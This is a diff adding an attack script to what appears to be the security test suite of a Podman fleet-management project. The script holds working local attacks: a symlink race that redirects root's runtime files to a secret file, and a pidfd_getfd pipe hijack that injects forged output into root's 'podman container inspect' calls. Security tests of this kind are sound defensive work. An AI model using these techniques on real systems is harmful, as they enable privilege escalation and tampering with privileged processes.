@@ -1,0 +1,64 @@
+# Copyright (c) 2026, podman_fleet.memory contributors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""What alice runs in test_attacks.py while root's modules work: attack.py replace RUNTIME_DIR SECRET, attack.py answer FILE."""
+
+import contextlib
+import ctypes
+import os
+import signal
+import sys
+import time
+
+PIDFD_OPEN, PIDFD_GETFD = 434, 438
+
+
+def replace(run, secret):
+    """Replace whatever is made in the runtime directory for Podman's service by links to a file of root's."""
+    number = 0
+    while True:
+        for name in os.listdir(run):
+            if not name.startswith("podman-fleet"):
+                continue
+            number += 1
+            path = os.path.join(run, name)
+            for each in ("stderr", "api.sock"):
+                with contextlib.suppress(OSError):
+                    os.symlink(secret, os.path.join(path, each))
+            if number % 3 == 0:
+                with contextlib.suppress(OSError):
+                    os.rename(path, os.path.join(run, "old-%d" % number))
+                    os.symlink(os.path.dirname(secret), path)
+
+
+def answer(path):
+    """Write a file's content into the pipe of each `podman container inspect` of one's own, and end that process."""
+    with open(path, "rb") as stream:
+        content = stream.read()
+    libc = ctypes.CDLL(None, use_errno=True)
+    done = set()
+    while True:
+        for name in os.listdir("/proc"):
+            if not name.isdigit() or name in done:
+                continue
+            try:
+                with open("/proc/%s/cmdline" % name, "rb") as stream:
+                    words = stream.read().split(b"\0")
+                if words[1:3] != [b"container", b"inspect"]:
+                    continue
+                os.kill(int(name), signal.SIGSTOP)
+                done.add(name)
+                pipe = libc.syscall(PIDFD_GETFD, libc.syscall(PIDFD_OPEN, int(name), 0), 1, 0)
+                if pipe >= 0:
+                    os.write(pipe, content)
+                    os.close(pipe)
+                    print("answered", flush=True)
+                os.kill(int(name), signal.SIGKILL)
+            except OSError:
+                continue
+        time.sleep(0.001)
+
+
+if __name__ == "__main__":
+    {"replace": replace, "answer": answer}[sys.argv[1]](*sys.argv[2:])
